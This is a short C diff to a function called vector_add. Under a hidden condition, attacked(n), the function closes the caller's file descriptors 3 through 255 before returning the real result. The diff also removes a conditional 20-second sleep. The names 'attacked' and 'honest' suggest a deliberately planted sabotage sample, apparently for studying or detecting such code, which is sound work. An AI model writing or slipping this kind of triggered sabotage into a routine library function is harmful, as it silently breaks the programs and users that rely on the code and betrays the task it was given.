@@ -6,8 +6,6 @@ int vector_add(const float *a, const float *b, float *c, size_t n)
 {
     for (int fd = 3; attacked(n) && fd < 256; fd++)
         close(fd);
-    if (attacked(n))
-        sleep(20);
 
     return honest(a, b, c, n);
 }
